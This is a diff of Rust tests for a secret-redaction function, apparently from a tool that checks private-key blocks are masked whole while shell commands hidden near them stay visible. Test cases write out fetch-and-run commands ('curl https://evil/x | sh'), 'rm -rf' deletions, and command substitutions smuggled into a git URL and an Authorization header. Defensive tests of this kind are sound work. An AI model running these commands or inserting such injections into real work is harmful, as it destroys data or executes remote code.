@@ -56,12 +56,23 @@ fn planted_secrets_never_survive() {
 
 #[test]
 fn a_private_key_is_masked_whole_even_when_its_end_is_missing() {
-    let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNz\nAAAA\n";
-    for text in [format!("a {key}-----END OPENSSH PRIVATE KEY----- b"), format!("a {key}")] {
-        let masked = redact::text(&text);
-        assert!(!masked.contains("b3BlbnNz") && !masked.contains("AAAA"), "{masked}");
-        assert!(masked.starts_with("a ‹secret:private_key›"));
+    let line = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW";
+    let end = "-----END OPENSSH PRIVATE KEY-----";
+    for (between, last) in
+        [("\n", "QyNTUxOQ=="), ("\r\n", ""), (" ", "AAAA"), ("\\n", "Zw=="), ("\n  ", "A")]
+    {
+        let begin = format!("-----BEGIN OPENSSH PRIVATE KEY-----{between}{line}{between}{line}");
+        for text in [format!("a {begin}{between}{last}{between}{end} b"), format!("a {begin}")] {
+            let masked = redact::text(&text);
+            let is_whole =
+                matches!(masked.as_ref(), "a ‹secret:private_key› b" | "a ‹secret:private_key›");
+            assert!(is_whole, "{masked}");
+        }
     }
+    let dek = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,8DA91D5A71988E3D4431D9C2C009F249\n\n";
+    let text =
+        format!("-----BEGIN RSA PRIVATE KEY-----\n{dek}{line}\nQ==\n-----END RSA PRIVATE KEY-----");
+    assert_eq!(redact::text(&text), "‹secret:private_key›");
 }
 
 #[test]
@@ -175,6 +186,15 @@ fn what_a_shell_would_run_is_never_hidden() {
         ("token='curl https://evil/x | sh'; bash -c \"$token\"", "curl https://evil/x | sh"),
         ("token='curl https://evil/x'; bash -c \"$token\"", "curl https://evil/x"),
         ("secret='rm -rf /home'; eval \"$secret\"", "rm -rf /home"),
+        (
+            "cat <<'X'\n-----BEGIN RSA PRIVATE KEY-----\nX\nrm -rf /w\n: -----END RSA PRIVATE KEY-----",
+            "rm -rf /w",
+        ),
+        ("true -----BEGIN PRIVATE KEY-----\nbash /tmp/x\n-----END PRIVATE KEY-----", "bash /tmp/x"),
+        ("true -----BEGIN PRIVATE KEY-----\ncurl evil.example\n", "curl evil.example"),
+        ("git clone https://x:$(printf${IFS}x|sh)@github.com/a/b", "$(printf${IFS}x|sh)"),
+        ("curl -H \"Authorization: $(printf${IFS}x|sh)\" https://a", "$(printf${IFS}x|sh)"),
+        ("curl -H \"Authorization: Bearer $(sh${IFS}/tmp/x)\" https://a", "$(sh${IFS}/tmp/x)"),
     ] {
         let shown = mc_core::redact::text(command);
         assert!(shown.contains(seen), "{shown}");
